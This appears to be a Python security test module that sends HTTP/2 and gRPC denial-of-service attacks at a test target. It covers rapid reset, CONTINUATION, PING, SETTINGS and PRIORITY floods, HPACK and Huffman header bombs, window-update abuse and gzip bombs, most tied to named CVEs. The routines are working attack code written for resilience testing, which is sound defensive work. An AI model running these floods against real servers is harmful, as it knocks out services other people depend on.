"""Attacks that send many or expensive frames on connections with a valid certificate."""

import gzip
from itertools import count, repeat

from tests.outside.attack_parts import CALLS, CHECK, CONNECT, FRAMES_ALLOWED, at_rate, repeat_data
from tests.outside.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    PRIORITY,
    RESET,
    call,
    call_fields,
    field,
    frame,
    integer,
    message,
    settings,
    text,
    window_update,
)
from tests.outside.raw_client import Target


def rapid_reset(target: Target) -> None:
    """Open calls and cancel them at once (CVE-2023-44487)."""
    with target.client() as client:
        for first in count(1, 200):
            if not target.goes_on():
                return
            client.send(b"".join(call(n, CHECK) + frame(RESET, 0, n, CANCEL) for n in range(first, first + 200, 2)))


def continuation_flood(target: Target) -> None:
    """Send header blocks that never end (CVE-2024-27316)."""
    with target.client() as client:
        client.send(frame(HEADERS, 0, 1, call_fields(CHECK)))
        repeat_data(target, client, frame(CONTINUATION, 0, 1, field(b"x", b"y" * 50)) * 50)


def empty_continuations(target: Target) -> None:
    """Send CONTINUATION frames without content, which never fill a limit of bytes."""
    with target.client() as client:
        client.send(frame(HEADERS, 0, 1, call_fields(CHECK)))
        repeat_data(target, client, frame(CONTINUATION, 0, 1) * 500)


def ping_flood(target: Target) -> None:
    """Ask for thousands of answers a second (CVE-2019-9512)."""
    with target.client() as client:
        repeat_data(target, client, frame(PING, 0, 0, b"flyball!") * 200)


def settings_flood(target: Target) -> None:
    """Change the settings thousands of times a second (CVE-2019-9515)."""
    with target.client() as client:
        repeat_data(target, client, settings((INITIAL_WINDOW_SIZE, 70_000)) * 200)


def settings_of_many_entries(target: Target) -> None:
    """Send frames of 2,700 settings each, at the rate that is allowed for frames, with open calls to adjust."""
    with target.client() as client:
        client.send(b"".join(call(n, CONNECT) for n in CALLS))
        large = settings(*((INITIAL_WINDOW_SIZE, 65_535 + n % 2) for n in range(2_700)))
        at_rate(target, client, repeat(large), FRAMES_ALLOWED)


def priority_flood(target: Target) -> None:
    """Reorder streams that do not exist (CVE-2019-9513)."""
    with target.client() as client:
        repeat_data(target, client, b"".join(frame(PRIORITY, 0, n, bytes(5)) for n in range(1, 401, 2)))


def hpack_bomb(target: Target) -> None:
    """Store one large header, then refer to it thousands of times in each call (CVE-2016-6581)."""
    with target.client() as client:
        large = field(b"x-large", b"z" * 3_900, indexed=True)
        client.send(call(1, CHECK, large, flags=END_STREAM))
        for stream in count(3, 2):
            if not target.goes_on():
                return
            client.send(call(stream, CHECK, b"\xbe" * 12_000, flags=END_STREAM))


def huffman_blocks(target: Target) -> None:
    """Send Huffman codes of almost 10 KB in each call, at the rate that is allowed for frames."""
    body = b"\x00" + text(b"x-code") + text(bytes(9_600), huffman=True)  # 15,360 times "0", whose code is 00000
    with target.client() as client:
        blocks = (frame(HEADERS, END_HEADERS | END_STREAM, n, call_fields(CHECK) + body) for n in count(1, 2))
        at_rate(target, client, blocks, FRAMES_ALLOWED)


def table_size_changes(target: Target) -> None:
    """Fill the table of headers, empty it by a change of size, and fill it again, in each call."""
    emptied = integer(0, 5, 0x20) + integer(4096, 5, 0x20)  # RFC 7541, section 6.3
    filled = field(b"x-large", b"v" * 3_900, indexed=True)
    with target.client() as client:
        for stream in count(1, 2):
            if not target.goes_on():
                return
            block = emptied + call_fields(CHECK) + filled
            client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))


def empty_data(target: Target) -> None:
    """Send DATA frames without content (CVE-2019-9518)."""
    with target.client() as client:
        client.send(call(1, CONNECT))
        repeat_data(target, client, frame(DATA, 0, 1) * 500)


def padding_only(target: Target) -> None:
    """Send DATA frames that contain padding and nothing else."""
    with target.client() as client:
        client.send(call(1, CONNECT))
        repeat_data(target, client, frame(DATA, PADDED, 1, b"\x00") * 500)


def one_byte_data(target: Target) -> None:
    """Send a message of a mebibyte, one byte in each frame."""
    with target.client() as client:
        client.send(call(1, CONNECT) + frame(DATA, 0, 1, message(bytes(2**20))[:5]))
        repeat_data(target, client, frame(DATA, 0, 1, b"\x00") * 1_000)


def window_games(target: Target) -> None:
    """Widen and shrink windows by a byte, thousands of times a second (CVE-2019-9517)."""
    with target.client() as client:
        client.send(settings((INITIAL_WINDOW_SIZE, 0)))
        client.send(b"".join(call(n, CHECK, flags=END_STREAM) for n in CALLS))
        repeat_data(target, client, b"".join(window_update(n, 1) for n in CALLS) * 40)


def gzip_bombs(target: Target) -> None:
    """Send messages of 4 KB that become 4 MB."""
    bomb = message(gzip.compress(bytes(4_194_000), 9), compressed=True)
    with target.client() as client:
        for stream in count(1, 2):
            if not target.goes_on():
                return
            opened = call(stream, CONNECT, field(b"grpc-encoding", b"gzip"))
            client.send(opened + frame(DATA, END_STREAM, stream, bomb))
